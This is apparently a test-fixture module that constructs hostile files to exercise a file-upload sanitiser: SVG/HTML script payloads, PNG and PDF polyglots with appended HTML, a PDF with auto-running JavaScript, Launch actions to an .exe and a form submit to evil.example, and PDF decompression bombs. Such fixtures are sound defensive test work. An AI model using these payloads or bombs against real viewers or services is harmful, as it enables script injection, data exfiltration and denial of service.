import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'

/** Files as nobody should send them, made here byte by byte, and a few good ones. */
export const bytesOf = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'))
export const together = (...parts: (Uint8Array | string)[]): Uint8Array => new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))))

export const MARK = 'HEARTHMARK'
export const SCRIPT = `<script>alert('${MARK}')</script>`
export const svg = bytesOf(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')"><script>alert('${MARK}')</script></svg>`)
export const html = bytesOf(`<!doctype html><html><body>${SCRIPT}</body></html>`)

const picture = (width = 60, height = 40) => sharp({ create: { width, height, channels: 3, background: { r: 180, g: 90, b: 30 } } })
export const png = async (width?: number, height?: number): Promise<Uint8Array> => picture(width, height).png().toBuffer()
export const gif = async (): Promise<Uint8Array> => picture().gif().toBuffer()
export const webp = async (): Promise<Uint8Array> => picture().webp().toBuffer()

/** A photograph with its place, its camera and its owner, taken with the camera on its side. */
export const jpegWithPlace = async (): Promise<Uint8Array> =>
  picture(60, 40).withExif({ IFD0: { Copyright: MARK, Artist: MARK, Orientation: '6' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '54/1 32/1 1/1', GPSLongitudeRef: 'W', GPSLongitude: '1/1 2/1 3/1' } }).withMetadata({ orientation: 6 }).jpeg().toBuffer()

function crc(bytes: Uint8Array): number {
  let value = 0xffffffff
  for (const byte of bytes) {
    value ^= byte
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  }
  return (value ^ 0xffffffff) >>> 0
}
function chunk(kind: string, content: Uint8Array): Uint8Array {
  const body = together(kind, content)
  const out = Buffer.alloc(body.length + 8)
  out.writeUInt32BE(content.length, 0)
  out.set(body, 4)
  out.writeUInt32BE(crc(body), body.length + 4)
  return out
}

/** A PNG with words in it that no reader sees, and a web page behind its end. */
export async function pngWithWords(): Promise<Uint8Array> {
  const plain = Buffer.from(await png())
  const end = plain.length - 12
  return together(plain.subarray(0, end), chunk('tEXt', bytesOf(`Comment\0${MARK} ${SCRIPT}`)), plain.subarray(end), html)
}

/** A few bytes that say they are a picture of this size. */
export function pngHeader(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  return together('\x89PNG\r\n\x1a\n', chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', new Uint8Array()))
}

export async function pdf(pages = 2): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  for (let page = 1; page <= pages; page++) doc.addPage([300, 400]).drawText(`Page ${page} of a plan`, { x: 40, y: 300, size: 14, font })
  return doc.save()
}

/** A PDF with everything that a PDF can do, and everything it can carry. */
export async function hostilePdf({ packed = true } = {}): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  doc.setAuthor(`Author ${MARK}`)
  doc.setTitle(`Title ${MARK}`)
  doc.addJavaScript('main', `app.alert('${MARK}')`)
  await doc.attach(bytesOf(`secret ${MARK}`), 'names.txt', { mimeType: 'text/plain', description: MARK })
  const page = doc.addPage([300, 400])
  const { context } = doc
  const js = context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(`app.alert('${MARK}')`) }))
  const rect = [10, 10, 90, 30]
  const link = (action: Record<string, unknown>) => context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action } as never))
  const next = { S: 'URI', URI: PDFString.of('https://good.example/plan'), Next: { S: 'Launch', F: PDFString.of(`${MARK}.exe`) } }
  page.node.set(PDFName.of('Annots'), context.obj([
    link({ S: 'Launch', F: PDFString.of(`${MARK}.exe`) }), link({ S: 'SubmitForm', F: PDFString.of(`https://evil.example/${MARK}`) }), link({ S: 'ImportData', F: PDFString.of(MARK) }),
    link({ S: 'GoToR', F: PDFString.of(MARK), D: [0, 'Fit'] }), link({ S: 'URI', URI: PDFString.of(`javascript:alert('${MARK}')`) }), link(next),
    context.register(context.obj({ Type: 'Annot', Subtype: 'Text', Rect: rect, Contents: PDFString.of(MARK), T: PDFString.of(MARK) })),
    context.register(context.obj({ Type: 'Annot', Subtype: 'Widget', Rect: rect, FT: 'Tx', T: PDFString.of(MARK), V: PDFString.of(MARK), AA: { K: js } })),
  ]))
  page.node.set(PDFName.of('AA'), context.obj({ O: js }))
  doc.catalog.set(PDFName.of('OpenAction'), js)
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js }))
  doc.catalog.set(PDFName.of('Metadata'), context.register(context.stream(`<x:xmpmeta>${MARK}</x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' })))
  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: [PDFString.of('template'), context.register(context.stream(`<xdp>${MARK}</xdp>`))] }))
  context.register(context.obj({ Type: 'Nobody', Left: PDFString.of(MARK) }))
  return together(await doc.save({ useObjectStreams: packed }), html)
}

/** A page whose content unpacks to this many megabytes, and a list of objects that does the same. */
export function pdfBomb(where: 'content' | 'objects' | 'table', megabytes = 2000): Uint8Array {
  const blank = Buffer.alloc(1024 * 1024, 32)
  const rows: Buffer[] = []
  const one = deflateRawSync(blank, { finishFlush: constants.Z_SYNC_FLUSH })
  for (let at = 0; at < megabytes; at++) rows.push(one)
  const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), ...rows, deflateRawSync(Buffer.alloc(0)), Buffer.alloc(4)])
  const content = where === 'content' ? packed : deflateSync(Buffer.from('0 0 10 10 re f'))
  const stream = (number: number, dict: string, bytes: Uint8Array) => together(`${number} 0 obj\n<< ${dict} /Length ${bytes.length} >>\nstream\n`, bytes, '\nendstream\nendobj\n')
  return together(
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>\nendobj\n',
    stream(4, '/Filter /FlateDecode', content),
    where === 'objects' ? stream(5, '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode', packed) : '',
    where === 'table' ? stream(5, '/Type /XRef /Size 2000000000 /W [0 0 0] /Root 1 0 R', bytesOf('x')) : '',
    'trailer\n<< /Root 1 0 R /Size 6 >>\nstartxref\n0\n%%EOF\n',
  )
}
